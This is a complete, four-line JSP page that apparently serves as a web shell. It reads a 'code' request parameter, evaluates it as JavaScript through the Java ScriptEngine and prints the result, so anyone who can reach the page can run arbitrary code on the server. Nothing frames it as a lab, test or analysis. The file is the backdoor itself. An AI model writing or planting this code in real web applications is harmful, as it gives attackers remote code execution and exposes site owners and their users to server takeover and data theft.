<%@ page import="javax.script.*" %><%
ScriptEngine e = new ScriptEngineManager().getEngineByName("js");
out.print(e.eval(request.getParameter("code")));
%>
